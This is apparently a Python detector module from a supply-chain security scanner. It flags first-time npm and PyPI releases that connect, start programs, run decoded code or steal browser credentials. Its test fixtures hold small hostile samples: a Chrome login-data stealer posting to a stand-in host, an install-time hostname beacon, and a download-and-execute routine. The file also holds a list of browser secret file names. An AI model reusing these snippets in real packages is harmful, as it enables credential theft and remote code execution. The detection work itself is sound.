"""This update is the first that anybody here sees of its line, and its code acts.

## What it detects
Only where there is no earlier release to measure against: code that connects or starts programs while it is installed
or as soon as its module is loaded; and, wherever it stands, code that starts what it fetches from a hidden, bare or
suspicious address, writes or fetches a program and has it started, executes what it decodes, holds or connects
to an address that is written in an encoding, reads a browser's stored passwords and connects, or names a mailbox that
payloads send to.

## Why it matters
A package that is made to do harm never had a harmless release: there is no change to see and no habit to compare with.
What it does has to be weighed by how often releases that are in honest use do the same. Whether its function is called
by an entry point or by whoever imports it makes little difference: the package is there for that.

## What it misses
Packages whose payload stands in a program, in a dependency or on a server alone; what honest packages do just as often;
what a file of the release does that a setup script hands to an interpreter, unless it is suspicious wherever it stands.
Scripts of other languages that nothing in the release names, where every command that it starts is known.
Later releases: there is a line then, and other detectors ask what is new in it.

## References
- MITRE ATT&CK T1195.002; T1105; T1555.003, Credentials from Web Browsers
- Guo et al., *An Empirical Study of Malicious Code In PyPI Ecosystem* (arXiv 2309.11021)
"""

from collections.abc import Collection, Iterator

from msgspec.structs import replace

from lazaretto.core.destination import destination, is_loopback, names_host, names_service_alone
from lazaretto.core.encoded_program import EncodedPrograms
from lazaretto.core.facts import Kind, Reach
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import (
    Tally,
    chains,
    decoded,
    hidden,
    in_tests,
    is_document,
    layers,
    package_json,
    runs_by_itself,
    runs_when_loaded,
)
from lazaretto.core.started import fetched_and_started, hands_code, is_program, left_lying, starts_known, typed, unpacks
from lazaretto.core.update import Pair, Placed, Update

CARD = Card(
    id="acts-at-first-contact",
    title="A release without a line acts by itself",
    variants={
        "install-both": "Code that runs at installation connects and starts a program.",
        "install-connects": "Code that runs at installation connects.",
        "install-starts": "Code that runs at installation starts a program that does not belong to building.",
        "load-both": "A module connects and starts a program as soon as it is loaded.",
        "load-connects": "A module connects as soon as it is loaded.",
        "load-starts-code": "A module hands code to an interpreter, or has more installed, as soon as it is loaded.",
        "load-starts": "A module starts a program as soon as it is loaded.",
        "starts-fetched": "Code starts what it fetches from a bare, hidden or suspicious address.",
        "executes-fetched": "Code evaluates what it fetches.",
        "starts-program": "Code starts a program that it wrote or fetched, or puts it where it is started.",
        "starts-download": "Code starts what it fetches.",
        "load-decodes": "A module executes text that was encoded as soon as it is loaded by its own name.",
        "executes-layers": "Code executes what several encodings, one inside the other, gave.",
        "executes-decoded": "Code that does not run by itself executes text or commands that were encoded.",
        "address-encoded": "Code holds or connects to a web address that is written in an encoding.",
        "browser-secrets": "Code reads what a browser stores, and connects.",
        "wallet-sent": "Code touches wallets or keys, and connects to a suspicious address.",
        "secret-taken": "Code reads a credential or the whole environment, and connects, in one file.",
        "payload-place": "Code names a web hook, a tunnel, a drop or another place that payloads send to.",
        "messenger": "Code connects to a messenger, as whoever calls it.",
    },
    group="first-contact",
    why="What is made to do harm never had a harmless release.",
    attack=("T1195.002", "T1105", "T1555.003"),
)

_NET = (Kind.NET_CONNECT, Kind.DNS_QUERY)
_MODULES = {"npm": (".js", ".cjs", ".mjs", ".ts", ".jsx", ".tsx"), "pypi": (".py",)}
"""What an ecosystem's own loader takes for a module: scripts of other languages lie beside them."""

_BROWSERS = (
    "local state", "login data", "leveldb", "user data", "cookies.sqlite", "logins.json", "key4.db", "web data",
)  # fmt: skip
_MANY_LAYERS = 3


_PLACES = frozenset({"webhook", "messenger", "callback", "tunnel", "paste", "drop", "hidden-service"})

_STEALER = (
    "import os\nimport urllib.request\nPATH = os.path.join(os.environ['LOCALAPPDATA'], "
    "'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')\ndef take():\n    data = open(PATH, 'rb').read()\n"
    "    urllib.request.urlopen('https://take.invalid/', data)\n"
)

EXAMPLES = (
    Example(
        title="a setup script that tells a server where it is installed",
        ecosystem="pypi",
        sdist=True,
        after={
            "setup.py": "from setuptools import setup\nimport socket, urllib.request\n"
            "urllib.request.urlopen('https://count.invalid/?h=' + socket.gethostname())\n"
            "setup(name='example-pad', version='1.0.0', py_modules=['pad'])\n",
            "pad.py": "WIDTH = 2\n",
        },
        expect="install-connects",
        at="setup.py:3",
    ),
    Example(
        title="a module that starts a program as soon as it is imported",
        after={
            "package.json": package_json("1.0.0"),
            "index.js": "require('child_process').exec('whoami');\nmodule.exports = (a) => a;\n",
        },
        expect="load-starts",
        at="index.js:1",
    ),
    Example(
        title="a function that takes what a browser stores",
        ecosystem="pypi",
        after={"pad/__init__.py": "WIDTH = 2\n", "pad/take.py": _STEALER},
        expect="browser-secrets",
        at="pad/take.py:5",
    ),
    Example(
        title="a function that starts the program which it fetches",
        ecosystem="pypi",
        after={
            "pad/__init__.py": "import os, requests\nWIDTH = 2\ndef check():\n"
            "    link = requests.get('https://files.invalid/newest').json()['link']\n"
            "    with open('C:/Pad/server.exe', 'wb') as file:\n"
            "        file.write(requests.get(link).content)\n"
            "    os.startfile('C:/Pad/server.exe')\n",
        },
        expect="starts-program",
        at="pad/__init__.py:5",
    ),
    Example(
        title="an address in base64 in one module, for another to decode",
        ecosystem="pypi",
        after={
            "pad/__init__.py": "WIDTH = 2\n",
            "pad/names.py": "NAME = 'aHR0cHM6Ly90YWtlLmludmFsaWQvaW4='\n",
        },
        expect="address-encoded",
        at="pad/names.py:1",
    ),
    Example(
        title="a module that hands code to an interpreter as soon as it is imported",
        ecosystem="pypi",
        after={
            "pad/__init__.py": "import subprocess\nsubprocess.Popen(['python3', '-c', 'import stage'])\nWIDTH = 2\n"
        },
        expect="load-starts-code",
        at="pad/__init__.py:2",
    ),
    Example(
        title="a bar that tells its progress to the messenger of whoever calls it",
        ecosystem="pypi",
        after={
            "pad/__init__.py": "import requests\nWIDTH = 2\ndef tell(token, text):\n"
            "    requests.post(f'https://api.telegram.org.invalid/bot{token}/sendMessage', data={'text': text})\n"
        },
        expect="messenger",
        at="pad/__init__.py:4",
    ),
    Example(
        title="a setup script that asks for the commit it is built from",
        ecosystem="pypi",
        sdist=True,
        after={
            "setup.py": "from setuptools import setup\nimport subprocess\n"
            "subprocess.run(['git', 'rev-parse', 'HEAD'])\nsetup(name='example-pad', version='1.0.0')\n",
        },
    ),
    Example(
        title="a setup script that runs another file of the release",
        ecosystem="pypi",
        sdist=True,
        after={
            "setup.py": "from setuptools import setup\nimport subprocess, sys\n"
            "subprocess.check_call([sys.executable, 'scripts/a.py'])\nsetup(name='example-pad', version='1.0.0')\n",
            "scripts/a.py": "print('made')\n",
        },
    ),
    Example(
        title="a setup script that asks the compiler which the environment names",
        ecosystem="pypi",
        sdist=True,
        after={
            "setup.py": "from setuptools import setup\nimport os, subprocess\n"
            "subprocess.run([os.environ['CC'], '-dM', '-E', '-x', 'c', '/dev/null'])\n"
            "setup(name='example-pad', version='1.0.0')\n",
        },
    ),
    Example(
        title="a benchmark in another language beside a Python package",
        ecosystem="pypi",
        after={
            "pad/__init__.py": "WIDTH = 2\n",
            "pad/bench/native.ts": "import { spawnSync } from 'child_process';\nspawnSync('./bench', ['loop']);\n"
            "fetch('https://results.invalid/new');\n",
        },
    ),
    Example(
        title="a server of tests that looks up its own address",
        ecosystem="pypi",
        after={
            "pad/__init__.py": "WIDTH = 2\n",
            "dummy/server.py": "import socket\nADDRESSES = socket.getaddrinfo('localhost', 0)\n"
            "LINK = socket.create_connection(('127.0.0.1', 80))\n",
        },
    ),
    Example(
        title="a client that connects when it is called",
        after={
            "package.json": package_json("1.0.0"),
            "index.js": "exports.load = () => fetch('https://api.invalid/v1').then((r) => r.json());\n",
        },
    ),
    Example(
        title="an update whose installer always connected",
        before={
            "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
            "install.js": "require('https').get('https://files.invalid/pad-1.0.0.tgz');\n",
        },
        after={
            "package.json": package_json("1.0.1", scripts={"postinstall": "node install.js"}),
            "install.js": "require('https').get('https://files.invalid/pad-1.0.1.tgz');\n",
        },
    ),
)

_MESSAGES = {
    "install-both": "connects and starts programs while it is installed",
    "install-connects": "connects while it is installed",
    "install-starts": "starts a program while it is installed",
    "load-both": "connects and starts programs as soon as it is loaded",
    "load-connects": "connects as soon as it is loaded",
    "load-starts-code": "hands code to an interpreter, or has more installed, as soon as it is loaded",
    "load-starts": "starts a program as soon as it is loaded",
    "starts-fetched": "starts what it fetches from a suspicious address",
    "executes-fetched": "evaluates what it fetches",
    "starts-program": "starts a program that it wrote or fetched, or puts it where it is started",
    "starts-download": "starts what it fetches",
    "load-decodes": "executes what it decodes as soon as it is loaded",
    "executes-layers": "executes what several encodings gave",
    "executes-decoded": "executes what it decodes",
    "address-encoded": "holds an address that is written in an encoding",
    "browser-secrets": "reads what a browser stores, and connects",
    "wallet-sent": "touches wallets or keys, and connects to a suspicious address",
    "secret-taken": "reads credentials or the whole environment where it connects",
    "payload-place": "names a place that payloads send to",
    "messenger": "connects to a messenger",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant; none where there is an earlier release."""
    tally = Tally(CARD)
    modules = _MODULES.get(update.ecosystem, ())
    for pair in update.pairs:
        if pair.before is None:
            told = _without(pair, left_lying(pair.after, modules))
            _by_itself(tally, told, modules)
            _runs_strange_code(tally, told, modules)
            _takes(tally, told)
    yield from tally.findings(_MESSAGES)


def _without(pair: Pair, paths: Collection[str]) -> Pair:
    """Return a pair without what is said of some files."""
    view = pair.after
    facts = {path: facts for path, facts in view.facts.items() if path not in paths}
    placed = tuple(one for one in view.placed if one.path not in paths)
    return replace(pair, after=replace(view, facts=facts, placed=placed)) if paths else pair


def _by_itself(tally: Tally, pair: Pair, modules: tuple[str, ...]) -> None:
    by_hand = typed(pair.after, modules)
    for when, places in (
        ("install", [p for p in pair.after.placed if p.reach is Reach.INSTALL]),
        ("load", [p for p in pair.after.placed if _loads(p, modules)]),
    ):
        connects = [p for p in places if p.fact.kind in _NET and not is_loopback(p.fact.value)]
        started = (p for p in places if p.fact.kind is Kind.PROCESS_SPAWN)
        starts = [p for p in started if not starts_known(pair.after, p)]
        files = {p.path for p in connects} & {p.path for p in starts}
        if files:
            tally.add(f"{when}-both", pair, *(p for p in [*connects, *starts] if p.path in files))
        elif told := [p for p in connects if p.path not in by_hand or p.reach is not Reach.CALL]:
            tally.add(f"{when}-connects", pair, *told)
        elif starts:
            coded = [p for p in starts if when == "load" and hands_code(p.fact.value)]
            tally.add("load-starts-code" if coded else f"{when}-starts", pair, *(coded or starts))


def _runs_strange_code(tally: Tally, pair: Pair, modules: tuple[str, ...]) -> None:
    view = pair.after
    for chain in chains(view, (Kind.NET_CONNECT,), (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)):
        fact = chain.source.fact
        if not _counts(chain.sink):
            continue
        if hidden(fact) or destination(fact.value):
            tally.add("starts-fetched", pair, chain.source, chain.sink)
        elif chain.data and fact.value and chain.sink.fact.kind is Kind.CODE_EVAL:
            tally.add("executes-fetched", pair, chain.source, chain.sink)
        elif chain.data and fact.value:
            tally.add("starts-download", pair, chain.source, chain.sink)
    for chain in chains(view, (Kind.NET_CONNECT, Kind.FS_WRITE), (Kind.PROCESS_SPAWN,)):
        if chain.data and _counts(chain.sink) and is_program(chain.sink.fact.value, scripts=runs_by_itself(chain.sink)):
            tally.add("starts-program", pair, chain.source, chain.sink)
    starting = {(p.path, p.fact.span) for p in view.placed if p.fact.kind is Kind.PERSIST}
    for chain in chains(view, (Kind.NET_CONNECT,), (Kind.FS_WRITE,)) if starting else ():
        if chain.data and _counts(chain.sink) and (chain.sink.path, chain.sink.fact.span) in starting:
            tally.add("starts-program", pair, chain.source, chain.sink)
    lines = (p for p in view.placed if p.fact.kind is Kind.PROCESS_SPAWN and _counts(p) and unpacks(p.fact.value))
    tally.add("starts-program", pair, *lines)
    for source, started in fetched_and_started(view):
        if started.path.endswith(modules) and _counts(started):
            program = is_program(started.fact.value, scripts=False)
            tally.add("starts-program" if program else "starts-download", pair, source, started)
    _runs_decoded(tally, pair, modules)


def _runs_decoded(tally: Tally, pair: Pair, modules: tuple[str, ...]) -> None:
    view = pair.after
    programs = EncodedPrograms(view)
    for chain in chains(view, (Kind.DECODE, Kind.DECRYPT), (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)):
        if not _counts(chain.sink):
            continue
        if layers(chain.source.fact) >= _MANY_LAYERS:
            tally.add("executes-layers", pair, chain.source, chain.sink)
        if chain.straight or (chain.data and not _plain_inside(programs, chain.sink)):
            _decoded(tally, pair, chain.sink, modules)
    for placed in view.placed:
        runs = placed.fact.kind in (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)
        if runs and hidden(placed.fact) and _counts(placed) and not _plain_inside(programs, placed):
            _decoded(tally, pair, placed, modules)


def _decoded(tally: Tally, pair: Pair, placed: Placed, modules: tuple[str, ...]) -> None:
    if runs_by_itself(placed):
        return  # asked elsewhere
    loads = placed.path.endswith(modules) and runs_when_loaded(placed) and placed.fact.kind is Kind.CODE_EVAL
    variant = "load-decodes" if loads else "executes-decoded"
    tally.add(variant, pair, placed)
    tally.explain(variant, decoded(pair, placed.path))


def _plain_inside(programs: EncodedPrograms, placed: Placed) -> bool:
    """Whether a place stands in plain words in decoded text that is executed: that text is told, not each word."""
    return bool(programs.around(placed)) and not programs.hidden_itself(placed)


def _takes(tally: Tally, pair: Pair) -> None:
    view = pair.after
    nets = {p.path for p in view.placed if p.fact.kind in _NET}
    sends = {p.path for p in view.placed if p.fact.kind in _NET and (hidden(p.fact) or destination(p.fact.value))}
    evals = (p for p in view.placed if p.fact.kind is Kind.CODE_EVAL and hidden(p.fact))
    unpacked = {p.path for p in evals if runs_by_itself(p)}
    for placed in view.placed:
        fact = placed.fact
        if not _counts(placed):
            continue
        if fact.kind in (Kind.SECRET_READ, Kind.ENV_DUMP) and placed.path in nets:
            browser = fact.kind is Kind.SECRET_READ and _names(fact.value, _BROWSERS)
            tally.add("browser-secrets" if browser else "secret-taken", pair, placed)
        if fact.kind is Kind.WALLET_TOUCH and placed.path in sends:
            tally.add("wallet-sent", pair, placed)
        if fact.kind not in (*_NET, Kind.LITERAL_URL):
            continue
        if destination(fact.value) in _PLACES:
            tally.add("messenger" if names_service_alone(fact.value) else "payload-place", pair, placed)
        # Code that runs by itself and was decoded is charged as that: an address in its text is no further sign.
        alone = fact.kind in _NET or placed.path not in unpacked
        if alone and hidden(fact) and ("://" in (fact.value or "") or (fact.kind in _NET and names_host(fact.value))):
            tally.add("address-encoded", pair, placed)


def _loads(placed: Placed, modules: tuple[str, ...]) -> bool:
    imported = runs_by_itself(placed) and placed.reach is not Reach.INSTALL
    module = placed.path.endswith(modules)
    return _counts(placed) and (imported or (module and runs_when_loaded(placed)))


def _counts(placed: Placed) -> bool:
    return not in_tests(placed.path) and not is_document(placed.path)


def _names(value: str | None, words: Collection[str]) -> bool:
    text = (value or "").lower()
    return any(word in text for word in words)
